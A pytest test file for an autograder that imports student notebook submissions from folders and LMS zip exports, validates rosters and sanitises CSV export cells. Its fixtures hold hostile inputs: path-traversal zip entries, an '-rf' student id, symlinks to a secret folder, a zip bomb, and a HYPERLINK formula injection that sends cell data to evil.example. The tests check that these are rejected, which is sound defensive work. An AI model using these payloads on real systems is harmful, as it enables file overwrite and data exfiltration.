"""Intake: folders and LMS zips (built here with zipfile) to submissions, with every file not
graded listed with why; rosters checked; CSV cells made spreadsheet-safe. No kernel runs."""

from __future__ import annotations

import json
import os
import zipfile
from pathlib import Path

import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_notebook

from autograder import lms
from autograder.export import spreadsheet_safe
from autograder.intake import (Batch, RosterRow, open_batch, read_roster, unreadable_reason,
                               validate_student_id)

GAN = "gan_theory"
NB = f"{GAN}.ipynb"
NAMES = {NB}
MAX_MB = 1.0


def _nb(version: int = 1) -> str:
    """A real, valid notebook whose code tells versions apart."""
    return nbformat.writes(new_notebook(cells=[new_code_cell(f"version = {version}")]))


def _version(path: Path) -> int:
    return int(nbformat.read(path, as_version=4).cells[0].source.split("=")[1])


def _tree(root: Path, files: dict[str, str | bytes]) -> Path:
    for name, content in files.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content.encode() if isinstance(content, str) else content)
    return root


def _zip(path: Path, members: dict[str, str | bytes | tuple]) -> Path:
    """A zip; a member given as (content, date_time) gets that date."""
    with zipfile.ZipFile(path, "w") as archive:
        for name, content in members.items():
            content, when = content if isinstance(content, tuple) else (content, (2024, 5, 1, 12, 0, 0))
            archive.writestr(zipfile.ZipInfo(name, when), content)
    return path


def _roster(path: Path, lines: list[str]) -> Path:
    path.write_text("\n".join(["id,first_name,last_name,email,lms_id", *lines]) + "\n")
    return path


def _open(source: Path, tmp_path: Path, roster: list[RosterRow] | None = None, names: set[str] = NAMES) -> Batch:
    return open_batch(source, GAN, names, roster, tmp_path / "work", MAX_MB)


def _skipped(batch: Batch, kind: str) -> set[str]:
    return {s.path for s in batch.skipped if s.kind == kind}


def _graded(batch: Batch) -> dict[str, int]:
    return {s.student: _version(s.notebooks[0]) for s in batch.submissions}


# --- layouts ------------------------------------------------------------------------------------------

def test_folder_layouts_nbgrader_and_flat(tmp_path):
    source = _tree(tmp_path / "in", {
        f"alice/{GAN}/{NB}": _nb(1), f"alice/{GAN}/timestamp.txt": "2024-05-01 10:00:00",
        f"bob/{NB}": _nb(2), "bob/notes.pdf": b"%PDF",
        f"carol/vae/vae.ipynb": _nb(3),                                   # another assignment only
        f"dave/{GAN}/{NB}": _nb(4), "dave/vae/vae.ipynb": _nb(5),
        "loose.ipynb": _nb(6),
    })
    batch = _open(source, tmp_path)
    assert _graded(batch) == {"alice": 1, "bob": 2, "dave": 4}
    assert batch.rejected == {}, "a student with folders for other assignments only handed nothing in"
    staged = tmp_path / "work" / "imported" / GAN
    alice = next(s for s in batch.submissions if s.student == "alice")
    assert alice.folder == (staged / "alice" / GAN).resolve() and alice.notebooks == (alice.folder / NB,)
    assert (alice.folder / "timestamp.txt").read_text() == "2024-05-01 10:00:00"
    assert all(not s.flags and not s.late_by_lms for s in batch.submissions)
    reasons = {s.path: (s.kind, s.student, s.reason) for s in batch.skipped}
    assert reasons["bob/notes.pdf"][:2] == ("other", "bob")
    assert reasons["carol/vae/vae.ipynb"][:2] == ("other", "carol")
    assert "not this assignment's" in reasons["carol/vae/vae.ipynb"][2]
    assert reasons["dave/vae/vae.ipynb"][:2] == ("other", "dave")
    assert reasons["loose.ipynb"][0] == "unmapped"
    assert sorted(p.relative_to(staged).as_posix() for p in staged.rglob("*") if p.is_file()) == [
        f"alice/{GAN}/{NB}", f"alice/{GAN}/timestamp.txt", f"bob/{GAN}/{NB}", f"dave/{GAN}/{NB}"]


def test_canvas_zip_with_a_roster(tmp_path):
    roster = read_roster(_roster(tmp_path / "roster.csv", [
        "jane,Jane,Doe,jane@example.edu,1000", "max,Max,Late,max@example.edu,1001",
        "ann,Ann,Byname,ann@example.edu,", "absent,Absent,Student,absent@example.edu,1003"]))
    archive = _zip(tmp_path / "canvas.zip", {
        f"doejane_1000_5000_{NB}": _nb(1),
        f"latemax_LATE_1001_5001_{NB}": _nb(2),
        f"bynameann_4242_5002_{NB}": _nb(3),                      # no lms_id: mapped by name
        f"stranger_9999_5003_{NB}": _nb(4),
        "readme.txt": "exported by Canvas",
    })
    batch = _open(archive, tmp_path, roster)
    assert _graded(batch) == {"jane": 1, "max": 2, "ann": 3}
    assert {s.student for s in batch.submissions if s.late_by_lms} == {"max"}
    assert batch.missing == ["absent"] and batch.rejected == {}
    unmapped = {s.path: s.reason for s in batch.skipped if s.kind == "unmapped"}
    assert set(unmapped) == {f"stranger_9999_5003_{NB}", "readme.txt"}
    assert "LMS user 9999 (stranger) is not in the roster" in unmapped[f"stranger_9999_5003_{NB}"]


def test_moodle_zips_with_and_without_folders(tmp_path):
    roster = read_roster(_roster(tmp_path / "roster.csv", ["jane,Jane,Doe,,", "jose,José,Pérez,,77"]))
    archive = _zip(tmp_path / "moodle.zip", {
        f"Jane Doe_12345_assignsubmission_file_/{NB}": _nb(1),
        f"José Pérez_77_assignsubmission_file_{NB}": _nb(2),
        "Jane Doe_12345_assignsubmission_onlinetext_onlinetext.html": "<p>hi</p>",
    })
    batch = _open(archive, tmp_path, roster)
    assert _graded(batch) == {"jane": 1, "jose": 2}
    assert _skipped(batch, "other") == {"Jane Doe_12345_assignsubmission_onlinetext_onlinetext.html"}
    without_roster = _open(archive, tmp_path, None)
    assert _graded(without_roster) == {"12345": 1, "77": 2}, "without a roster the LMS user id is the id"


def test_ambiguous_names_are_not_guessed(tmp_path):
    roster = read_roster(_roster(tmp_path / "r.csv", ["jdoe1,Jane,Doe,,", "jdoe2,Jane,Doe,,"]))
    batch = _open(_zip(tmp_path / "m.zip", {f"Jane Doe_5_assignsubmission_file_/{NB}": _nb()}), tmp_path, roster)
    assert batch.submissions == [] and batch.missing == ["jdoe1", "jdoe2"]
    assert "several roster students by name (jdoe1, jdoe2)" in batch.skipped[0].reason


JUNK = [".ipynb_checkpoints/{nb}-checkpoint.ipynb", ".DS_Store", "~$notes.docx", "Thumbs.db", "._{nb}"]


@pytest.mark.parametrize("layout", ["nbgrader", "flat", "canvas", "moodle"])
def test_junk_is_ignored_in_every_layout_and_listed(tmp_path, layout):
    nb_stem = GAN
    if layout in ("nbgrader", "flat"):
        inner = f"alice/{GAN}/" if layout == "nbgrader" else "alice/"
        files = {inner + NB: _nb()} | {inner + j.format(nb=nb_stem): _nb() for j in JUNK}
        files |= {f"__MACOSX/alice/._{NB}": b"\0\5\26\7", ".hidden/x.ipynb": _nb()}
        source, student = _tree(tmp_path / "in", files), "alice"
    else:
        prefix = "doejane_1000_5000_" if layout == "canvas" else "Jane Doe_1000_assignsubmission_file_/"
        members = {prefix + NB: _nb(), f"__MACOSX/._{prefix}{NB}": b"\0\5\26\7", ".DS_Store": b"x",
                   "Thumbs.db": b"x", f"__MACOSX/{prefix}.ipynb_checkpoints/x.ipynb": _nb()}
        if layout == "moodle":
            members |= {prefix + j.format(nb=nb_stem): _nb() for j in JUNK}
        source, student = _zip(tmp_path / "in.zip", members), "1000"
    batch = _open(source, tmp_path)
    assert [s.student for s in batch.submissions] == [student], "junk never drops a student"
    assert batch.rejected == {} and all(not s.flags for s in batch.submissions)
    assert {s.kind for s in batch.skipped} == {"junk"} and len(batch.skipped) >= 4


def test_checkpoints_do_not_drop_a_flat_submission(tmp_path):
    """The reviewer's case: `.ipynb_checkpoints/` made the student look like one with other folders."""
    source = _tree(tmp_path / "in", {f"bob/{NB}": _nb(), f"bob/.ipynb_checkpoints/{GAN}-checkpoint.ipynb": _nb()})
    batch = _open(source, tmp_path)
    assert _graded(batch) == {"bob": 1}
    assert batch.skipped[0].student == "bob" and batch.skipped[0].kind == "junk"


# --- duplicates ---------------------------------------------------------------------------------------

def test_canvas_duplicates_latest_by_date_is_graded_and_flagged(tmp_path):
    early, late = (2024, 5, 1, 9, 0, 0), (2024, 5, 2, 9, 0, 0)
    archive = _zip(tmp_path / "c.zip", {
        f"doejane_1000_5009_{NB}": (_nb(1), early),           # larger id, but older: not graded
        f"doejane_1000_5001_{GAN}-1.ipynb": (_nb(2), late),
        f"smithann_1001_6000_{NB}": (_nb(3), early),          # same date: re-upload number decides
        f"smithann_1001_6001_{GAN}-1.ipynb": (_nb(4), early),
        f"leeby_1002_7002_{NB}": (_nb(5), early),             # same date, same name: submission id decides
        f"leeby_1002_7001_{NB}": (_nb(6), early),
    })
    batch = _open(archive, tmp_path)
    assert _graded(batch) == {"1000": 2, "1001": 4, "1002": 5}
    assert _skipped(batch, "duplicate") == {f"doejane_1000_5009_{NB}", f"smithann_1001_6000_{NB}",
                                            f"leeby_1002_7001_{NB}"}
    jane = next(s for s in batch.submissions if s.student == "1000")
    assert jane.notebooks[0].name == NB, "the re-upload gets its name back"
    [flag] = jane.flags
    assert flag.kind == "duplicate" and f"doejane_1000_5009_{NB}" in flag.detail
    assert flag.detail.endswith(f"graded doejane_1000_5001_{GAN}-1.ipynb (the latest)")


def test_folder_and_moodle_duplicates(tmp_path):
    source = _tree(tmp_path / "in", {f"bob/{NB}": _nb(1), f"bob/{GAN}-1.ipynb": _nb(2),
                                     f"eve/{GAN} (1).ipynb": _nb(3), f"eve/{GAN}/{NB}": _nb(4)})
    os.utime(source / "bob" / NB, (2e9, 2e9))                 # the plain name is the later file here
    os.utime(source / "bob" / f"{GAN}-1.ipynb", (1e9, 1e9))
    os.utime(source / "eve" / f"{GAN} (1).ipynb", (1e9, 1e9))
    batch = _open(source, tmp_path)
    assert _graded(batch) == {"bob": 1, "eve": 4}
    assert _skipped(batch, "duplicate") == {f"bob/{GAN}-1.ipynb", f"eve/{GAN} (1).ipynb"}
    assert all([f.kind for f in s.flags] == ["duplicate"] for s in batch.submissions)

    moodle = _zip(tmp_path / "m.zip", {
        f"Jane Doe_5_assignsubmission_file_/{NB}": (_nb(1), (2024, 5, 3, 0, 0, 0)),
        f"Jane Doe_5_assignsubmission_file_/{GAN}-1.ipynb": (_nb(2), (2024, 5, 1, 0, 0, 0))})
    batch = _open(moodle, tmp_path)
    assert _graded(batch) == {"5": 1} and batch.submissions[0].flags[0].kind == "duplicate"


# --- ids, paths and the workspace ---------------------------------------------------------------------

@pytest.mark.parametrize("bad", ["../x", "/abs", "a/b", "", "..", "a\\b", "tab\there", "C:evil", "-rf", "a b"])
def test_roster_with_a_bad_id_names_the_line(tmp_path, bad):
    path = _roster(tmp_path / "roster.csv", ["good,Good,Student,,1", f'"{bad}",Bad,Student,,2'])
    with pytest.raises(ValueError, match="line 3") as error:
        read_roster(path)
    assert repr(bad) in str(error.value)
    assert validate_student_id(bad) is not None


def test_roster_reading(tmp_path):
    path = tmp_path / "r.csv"
    path.write_text("\ufeffID, First_Name ,last_name,email\n alice ,Alice,A,a@x.edu\n,,,\n\nbob.b@x.edu,Bob,B,\n")
    assert read_roster(path) == [RosterRow("alice", "Alice", "A", "a@x.edu", "", 2),
                                 RosterRow("bob.b@x.edu", "Bob", "B", "", "", 5)]
    assert lms.read_roster(path)[0]["id"] == "alice", "the older interface gives dicts, checked the same way"
    with pytest.raises(ValueError, match="line 3: student id 'a' is also on line 2"):
        read_roster(_roster(tmp_path / "d.csv", ["a,,,,", "a,,,,"]))
    with pytest.raises(ValueError, match="lms_id '7'"):
        read_roster(_roster(tmp_path / "l.csv", ["a,,,,7", "b,,,,7"]))
    (tmp_path / "n.csv").write_text("student,name\nx,y\n")
    with pytest.raises(ValueError, match="column named 'id'"):
        read_roster(tmp_path / "n.csv")


def _files(root: Path) -> set[Path]:
    return {p for p in root.rglob("*") if p.is_file() or p.is_symlink()}


def test_nothing_is_written_outside_the_workspace(tmp_path):
    roots = tmp_path / "a" / "b"
    roots.mkdir(parents=True)
    archive = _zip(roots / "evil.zip", {
        "../../evil.ipynb": _nb(), f"../../alice/{GAN}/{NB}": _nb(), f"/abs/{GAN}/{NB}": _nb(),
        "..\\..\\evil.ipynb": _nb(), "C:\\evil.ipynb": _nb(), f"alice/../../../evil/{NB}": _nb(),
        f"bad name/{NB}": _nb(), f"-rf/{NB}": _nb(), f"a..b/{GAN}/{NB}": _nb(), f"ctl\x07/{NB}": _nb(),
        f"doejane_1000_5000_../../../{NB}": _nb(),
        f"ok/{NB}": _nb(),
    })
    before = _files(tmp_path)
    batch = open_batch(archive, GAN, NAMES, None, roots / "work", MAX_MB)
    staged = (roots / "work" / "imported" / GAN).resolve()
    assert {p.resolve() for p in _files(tmp_path) - before} == {staged / "ok" / GAN / NB}
    assert [s.student for s in batch.submissions] == ["ok"]
    assert set(batch.rejected) == {"bad name", "-rf", "a..b", "ctl\x07"}
    assert all("cannot be a student id" in reason for reason in batch.rejected.values())
    assert _skipped(batch, "unsafe") == {"../../evil.ipynb", f"../../alice/{GAN}/{NB}", f"/abs/{GAN}/{NB}",
                                         "..\\..\\evil.ipynb", "C:\\evil.ipynb", f"alice/../../../evil/{NB}",
                                         f"doejane_1000_5000_../../../{NB}"}
    assert _skipped(batch, "bad-id") == {f"bad name/{NB}", f"-rf/{NB}", f"a..b/{GAN}/{NB}", f"ctl\x07/{NB}"}


def test_folder_with_bad_names_and_links(tmp_path):
    outside = _tree(tmp_path / "secret", {"answers.ipynb": _nb(9)})
    source = _tree(tmp_path / "in", {f"bad name/{NB}": _nb(), f"ok/{NB}": _nb()})
    (source / "linked").mkdir()
    (source / "linked" / NB).symlink_to(outside / "answers.ipynb")
    (source / "dirlink").symlink_to(outside, target_is_directory=True)
    os.mkfifo(source / "ok" / "pipe")                         # reading it would hang: never opened
    batch = _open(source, tmp_path)
    assert _graded(batch) == {"ok": 1}
    assert "bad name" in batch.rejected and not (tmp_path / "work" / "imported" / GAN / "bad name").exists()
    assert _skipped(batch, "unsafe") == {f"linked/{NB}", "dirlink", "ok/pipe"}


def test_workspace_is_emptied_and_overlaps_refused(tmp_path):
    source = _tree(tmp_path / "in", {f"alice/{NB}": _nb()})
    _open(source, tmp_path)
    stale = tmp_path / "work" / "imported" / GAN / "gone" / GAN / NB
    stale.parent.mkdir(parents=True)
    stale.write_text(_nb())
    _open(source, tmp_path)
    assert not stale.exists()
    with pytest.raises(ValueError, match="overlap"):
        open_batch(source, GAN, NAMES, None, source / "work", MAX_MB)
    with pytest.raises(ValueError, match="neither a folder nor a zip"):
        open_batch(_tree(tmp_path, {"x.zip": "not a zip"}) / "x.zip", GAN, NAMES, None, tmp_path / "work", MAX_MB)
    with pytest.raises(ValueError, match="not a plain file name"):
        open_batch(source, "../gan", NAMES, None, tmp_path / "work", MAX_MB)


# --- what is graded -----------------------------------------------------------------------------------

BROKEN = {
    "empty": ("", "is empty"),
    "corrupt": ('{"cells": [', "not valid notebook JSON (line 1"),
    "v3": (json.dumps({"nbformat": 3, "nbformat_minor": 0, "worksheets": [], "metadata": {}}), "version 3 notebook"),
    "notebook-less": (json.dumps({"hello": "world"}), "JSON but not a Jupyter notebook"),
    "invalid": (json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [{"cell_type": "bogus"}]}),
                "not a valid Jupyter notebook"),
    "binary": (b"\x89PNG\r\n\x1a\n\0\0", "not valid notebook JSON"),
    "large": ('{"cells": []}' + " " * (2**20 + 10), "more than the 1 MB a notebook may have"),
}


@pytest.mark.parametrize("container", ["folder", "zip"])
def test_unreadable_notebooks_are_rejected_with_a_reason(tmp_path, container):
    files = {f"{student}/{NB}": content for student, (content, _) in BROKEN.items()} | {f"fine/{NB}": _nb()}
    files["empty/timestamp.txt"] = "2024-05-01 10:00:00"      # listed too: every file not graded is
    source = _tree(tmp_path / "in", files) if container == "folder" else _zip(tmp_path / "in.zip", files)
    batch = _open(source, tmp_path)
    assert _graded(batch) == {"fine": 1}
    for student, (_, reason) in BROKEN.items():
        assert reason in batch.rejected[student], (student, batch.rejected[student])
    assert _skipped(batch, "unreadable") == {f"{student}/{NB}" for student in BROKEN}
    assert _skipped(batch, "other") == {"empty/timestamp.txt"}
    assert sorted(p.name for p in (tmp_path / "work" / "imported" / GAN).iterdir()) == ["fine"]


def test_unreadable_reason_on_a_path(tmp_path):
    good = _tree(tmp_path, {NB: _nb()}) / NB
    assert unreadable_reason(good, MAX_MB) is None
    assert "is empty" in unreadable_reason(_tree(tmp_path, {"e.ipynb": "  \n"}) / "e.ipynb", MAX_MB)


def test_wrong_names_other_files_and_lms_timestamps(tmp_path):
    source = _tree(tmp_path / "in", {"alice/homework.ipynb": _nb(), "alice/notes.txt": "x",
                                     f"bob/{GAN}/{NB}": _nb(), f"bob/{GAN}/data/extra.csv": "1,2",
                                     f"carol/{GAN}/timestamp.txt": "2024-05-01"})
    batch = _open(source, tmp_path)
    assert batch.rejected == {
        "alice": f"no notebook named {NB} in the submission (handed in: homework.ipynb, notes.txt)"}
    assert _graded(batch) == {"bob": 1}, "carol's folder holds only nbgrader's timestamp: nothing handed in"
    assert _skipped(batch, "other") == {"alice/homework.ipynb", "alice/notes.txt", f"bob/{GAN}/data/extra.csv",
                                        f"carol/{GAN}/timestamp.txt"}
    archive = _zip(tmp_path / "c.zip", {f"doejane_1_2_{NB}": _nb(), "doejane_1_3_timestamp.txt": "2000-01-01"})
    batch = _open(archive, tmp_path)
    assert not (batch.submissions[0].folder / "timestamp.txt").exists(), "a student's timestamp is not trusted"
    assert _skipped(batch, "other") == {"doejane_1_3_timestamp.txt"}


def test_roster_students_missing_and_folder_students_not_on_it(tmp_path):
    roster = read_roster(_roster(tmp_path / "r.csv", ["alice,Alice,A,,", "absent,Ab,Sent,,"]))
    source = _tree(tmp_path / "in", {f"alice/{NB}": _nb(), f"zed/{NB}": _nb(), "gone/vae/vae.ipynb": _nb()})
    batch = _open(source, tmp_path, roster)
    assert batch.missing == ["absent"]
    flags = {s.student: [f.kind for f in s.flags] for s in batch.submissions}
    assert flags == {"alice": [], "zed": ["not-on-roster"]}


def test_multi_notebook_assignment_flags_a_missing_notebook(tmp_path):
    source = _tree(tmp_path / "in", {"alice/part1.ipynb": _nb(), "bob/part1.ipynb": _nb(), "bob/part2.ipynb": _nb()})
    batch = _open(source, tmp_path, names={"part1.ipynb", "part2.ipynb"})
    by_student = {s.student: s for s in batch.submissions}
    assert [p.name for p in by_student["bob"].notebooks] == ["part1.ipynb", "part2.ipynb"]
    assert [(f.kind, f.detail) for f in by_student["alice"].flags] == [
        ("missing-notebook", "not handed in: part2.ipynb")]


# --- export -------------------------------------------------------------------------------------------

@pytest.mark.parametrize("value, cell", [
    ('=HYPERLINK("http://evil.example/?"&A1, "Jane")', '\'=HYPERLINK("http://evil.example/?"&A1, "Jane")'),
    ("+1", "'+1"), ("-2+3", "'-2+3"), ("@SUM(A1:A9)", "'@SUM(A1:A9)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("Jane", "Jane"), ("O'Brien", "O'Brien"), ("a=b", "a=b"), ("", ""), (None, ""),
    (-1.5, "-1.5"), (3, "3"), (0.0, "0.0"), (-7, "-7"),
])
def test_spreadsheet_safe(value, cell):
    assert spreadsheet_safe(value) == cell


def test_a_zip_bomb_is_never_read_whole(tmp_path):
    import tracemalloc

    archive = tmp_path / "bomb.zip"
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr(f"doejane_1_2_{NB}", b"{" + b" " * (64 * 2**20))       # 64 MB, 64 kB compressed
    tracemalloc.start()
    try:
        batch = _open(archive, tmp_path)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert "more than the 1 MB a notebook may have" in batch.rejected["1"]
    assert peak < 16 * 2**20, f"{peak / 2**20:.0f} MB held while reading"
    assert not any((tmp_path / "work").rglob("*.ipynb"))
